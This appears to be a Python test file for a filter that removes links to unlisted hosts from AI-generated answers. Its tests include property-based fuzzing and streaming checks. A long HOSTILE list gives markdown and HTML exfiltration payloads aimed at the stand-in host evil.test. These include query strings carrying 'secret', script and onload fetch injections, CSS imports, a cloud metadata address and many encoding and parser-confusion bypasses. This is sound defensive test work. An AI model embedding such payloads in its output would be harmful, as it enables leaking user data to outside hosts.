"""Which links an answer may carry, whatever renders it and however its text is cut."""

import html

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from plinth.chain.links import MAX_HELD, REMOVED, LinkFilter, without_links
from tests.fakes.renderings import reached

pytestmark = pytest.mark.guarantee_h
HOSTS = ("docs.example.org", "*.example.net")
OWN = {"docs.example.org"}

HOSTILE = [
    "![x](https://evil.test/?q=secret)",
    "![x](http://evil.test/a.png 'title')",
    "[x](https://evil.test)",
    "[x](<https://evil.test/a b>)",
    "[x]( https://evil.test)",
    "[x](\nhttps://evil.test)",
    "[x](//evil.test/a)",
    "[x](///evil.test/a)",
    "[x](/\\evil.test/a)",
    "[x](\\\\evil.test/a)",
    "[x](https:evil.test)",
    "[x](https:/evil.test)",
    "[x](https:\\\\evil.test)",
    "[x](&#104;ttps://evil.test)",
    "[x](https&colon;//evil.test)",
    "[x](https&#58;&#47;&#x2f;evil.test)",
    "[x](https\\://evil.test)",
    "[x](javascript:fetch('//evil.test'))",
    "[x](data:text/html,<img src=https://evil.test>)",
    "[x](mailto:a@evil.test?body=secret)",
    "[x](ftp://evil.test/secret)",
    "[x](https://docs.example.org@evil.test/)",
    "[x](https://docs.example.org:" + "pw@evil.test/)",
    "[x](https://docs.example.org:" + "80@evil.test/)",
    "[x](https://docs.example.org:" + "80\\@evil.test/)",
    "[x](https://docs.example.org:80.evil.test/)",
    "https://docs.example.org:80,https://evil.test/",
    "[x](https://docs.example.org.evil.test/)",
    "[x](https://docs.example.org\\.evil.test/)",
    "[x](https://docs.example.org&#46;evil.test/)",
    "[x](https://docs.example.org%2eevil.test/)",
    "[x](https://docs.example.org,evil.test/)",
    "[x](https://docs.example.org\N{IDEOGRAPHIC FULL STOP}evil.test/)",
    "[x](https://xdocs.example.org/)",
    "[x](https://example.net/)",
    "[![x](https://evil.test/a.png)](https://docs.example.org/)",
    "[x][r]\n\n[r]: https://evil.test/?q=secret",
    "![x][r]\n\n[r]:https://evil.test 'title'",
    "![r]\n\n[r]:\n  //evil.test/a.png",
    "> [r]: <https://evil.test>\n\n[r]",
    "[r]: &#104;ttps&colon;//evil.test\n\n![r]",
    "[^1]: https://evil.test",
    "<https://evil.test/?q=secret>",
    "<HTTPS://EVIL.TEST>",
    "<mailto:a@evil.test>",
    "<evil+scheme:secret>",
    "https://evil.test/?q=secret",
    "see http://evil.test.",
    "www.evil.test/secret",
    "WWW.evil.test",
    "//evil.test/secret",
    "ftp://evil.test/secret",
    "mailto:a@evil.test?body=secret",
    "https\\://evil.test",
    "https&#58;//evil.test",
    "https://[::1]/secret",
    "https://169.254.169.254/secret",
    "https://\N{LATIN SMALL LETTER E WITH ACUTE}vil.test/",
    '<img src="https://evil.test/a.png">',
    "<img src=//evil.test/a.png>",
    "<img src=/\\evil.test/a.png>",
    "<img\nsrc='https:evil.test'>",
    "<img src='ht\ntps://evil.test'>",
    "<img src=&#104;ttps://evil.test>",
    "<img/src=https://evil.test>",
    "<img srcset='https://evil.test/a 2x'>",
    "<a href=https://evil.test>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=https://evil.test></iframe>",
    "<style>@import '//evil.test/a.css';</style>",
    "<style>b{background:url(//evil.test/a)}</style>",
    "<p style='background:url(//evil.test/a)'>",
    "<base href=https://evil.test/><img src=a>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<form action=https://evil.test><button>x</button></form>",
    "<svg><image href=https://evil.test/a></svg>",
    "<svg/onload=fetch('//evil.test')>",
    "<object data=https://evil.test>",
    "<video poster=https://evil.test/a>",
    "<script>fetch('https://evil.test')</script>",
    "<!--><img src=https://evil.test>-->",
    "<![CDATA[<img src=https://evil.test>]]>",
    "<?x><img src=https://evil.test>",
    "`<img src=https://evil.test>`",
    "$\\href{https://evil.test}{x}$ $\\includegraphics{//evil.test/a}$",
]
HARMLESS = [
    "The warehouse opens at nine [1], as said [2, 3].",
    "Use `apt-get install -y git` <br> and <b>not</b> `cat < a > b`.",
    "#include <sys/types.h> vector<int> Map<String, Integer>",
    "handlers[0](event) and [see above](#part) [1](2)",
    "Time: 12:30; ratio a/b; path C:\\dir\\file; //comment; and/or; x & y; AT&T; &amp;",
    "what http is, how www works, https",
    "ann@example.com",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_rendering_of_an_answer_reaches_a_host_that_is_not_listed(text: str) -> None:
    assert reached(without_links(text, HOSTS)) <= OWN


@pytest.mark.parametrize("text", HOSTILE)
def test_without_a_list_nobody_is_reached(text: str) -> None:
    assert reached(without_links(f"Well, {text} so.", ())) == set()


def test_the_judge_of_these_tests_sees_all_but_what_its_renderers_make_harmless() -> None:
    assert [text for text in HOSTILE if not reached(text) - OWN] == [
        "[x](/\\evil.test/a)",
        "[x](\\\\evil.test/a)",
        "[x](javascript:fetch('//evil.test'))",
        "//evil.test/secret",
    ]


@pytest.mark.parametrize("text", HARMLESS)
def test_text_without_addresses_stays_as_it_is(text: str) -> None:
    assert without_links(text, ()) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[x](https://docs.example.org/a?b=1#c)", "[x](https://docs.example.org/a?b=1#c)"),
        ("[x](https://docs.example.org)", "[x](https://docs.example.org/)"),
        ("<https://a.example.net>", "<https://a.example.net/>"),
        ("See https://docs.example.org.", "See https://docs.example.org/."),
        ("See https://docs.example.org for more", "See https://docs.example.org for more"),
        ("See HTTPS://DOCS.example.org/a", "See HTTPS://DOCS.example.org/a"),
        ("www.example.net/a", "www.example.net/a"),
        ("See https://docs.example.org:8443/a?b", "See https://docs.example.org:8443/a?b"),
        ("[x](https://docs.example.org:8443)", "[x](https://docs.example.org:8443/)"),
        ("www.example.net:80 or so", "www.example.net:80 or so"),
        ("https://docs.example.org:" + "80@evil.test/", "https://docs.example.org:80/@evil.test/"),
        ("https://docs.example.org:123456/", "https://docs.example.org/:123456/"),
    ],
)
def test_a_listed_host_may_be_linked_to(text: str, expected: str) -> None:
    assert without_links(text, HOSTS) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](https://evil.test/?q=secret) [1].", "![x] ((link removed: evil.test)) [1]."),
        ("see https://evil.test/?q=secret, then", "see (link removed: evil.test) then"),
        ('proxy "http://CacheServerIp:3142";', 'proxy "(link removed: CacheServerIp:3142)";'),
        ("at www.www.evil.test/secret", "at (link removed: evil.test)"),
        ("at ftp://evil.test/secret", f"at ftp{REMOVED}"),
        ("wwhttp://w.evil.test/secret", "ww(link removed: w.evil.test)"),
        ("<img src=x>", "&lt;img src=x>"),
        ("[1]: as said", "[1] : as said"),
    ],
)
def test_what_is_taken_apart_stays_readable_and_keeps_its_citations(text: str, expected: str) -> None:
    assert without_links(text, HOSTS) == expected


PIECES = st.sampled_from(
    [
        *[
            "https",
            "http",
            ":",
            "/",
            "//",
            "://",
            "\\",
            "www",
            ".",
            "evil",
            ".test",
            "docs.example.org",
            "a.example.net",
            ":80",
            "[",
            "]",
            "(",
            ")",
            "](",
            "][",
            "]:",
            "![",
            "<",
            ">",
            "=",
            "&",
            "#",
            ";",
        ],
        *[
            "<img",
            "<a",
            "'&#58;",
            "&#x2f;",
            "&colon;",
            "&sol;",
            "x",
            "1",
            "@",
            "?",
            "%2e",
            "*",
            "mailto:",
            "javascript:",
            "data:",
            "r",
            "[r]",
            "<style>",
            "<!--",
            "-->",
            "`",
            '"',
            "'",
        ],
        *("<img src=", "<a href='", "[r]: ", "@import ", " ", "\n", "\t", "\N{IDEOGRAPHIC FULL STOP}"),
    ]
)
TEXTS = st.lists(st.one_of(PIECES, st.sampled_from(HOSTILE)), max_size=14).map("".join)


@settings(max_examples=400)
@given(text=TEXTS)
@example(text="[x](https://docs.example.org)evil.test")
def test_nothing_made_of_pieces_of_links_reaches_anybody_either(text: str) -> None:
    left = {host for host in reached(without_links(text, HOSTS)) - OWN if not host.endswith(".example.net")}

    assert left == set()


@settings(max_examples=400)
@given(text=TEXTS, data=st.data())
def test_however_a_text_is_cut_the_same_comes_out(text: str, data: st.DataObject) -> None:
    places = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=8)))
    links = LinkFilter(HOSTS)
    shown = [links.take(text[start:end]) for start, end in zip([0, *places], [*places, len(text)], strict=True)]

    assert "".join(shown) + links.end() == without_links(text, HOSTS)


@pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS])
def test_a_text_that_comes_letter_by_letter_comes_out_the_same(text: str) -> None:
    links = LinkFilter(HOSTS)

    assert "".join(map(links.take, text)) + links.end() == without_links(text, HOSTS)


@pytest.mark.parametrize("text", ["https://" + "a" * 5000, "<" + "a" * 5000, "[x](" + "a " * 2500, "//" + "a." * 2500])
def test_at_most_a_few_hundred_characters_wait_for_what_comes_next(text: str) -> None:
    links = LinkFilter(HOSTS)
    waiting = [len(links.held) for letter in text if links.take(letter) is not None]

    assert max(waiting) <= MAX_HELD


def test_plain_words_do_not_wait() -> None:
    links = LinkFilter(())

    assert [links.take(word) for word in ("The ", "answer ", "is ", "nine", " [1].")] == [
        "The ",
        "answer ",
        "is ",
        "nine",
        " [1].",
    ]


def test_a_second_pass_changes_nothing() -> None:
    once = [without_links(text, HOSTS) for text in HOSTILE]

    assert [without_links(text, HOSTS) for text in once] == once


def test_what_is_shown_of_coded_characters_is_their_code() -> None:
    assert html.unescape(without_links("&#104;i", ())) == "&#104;i"
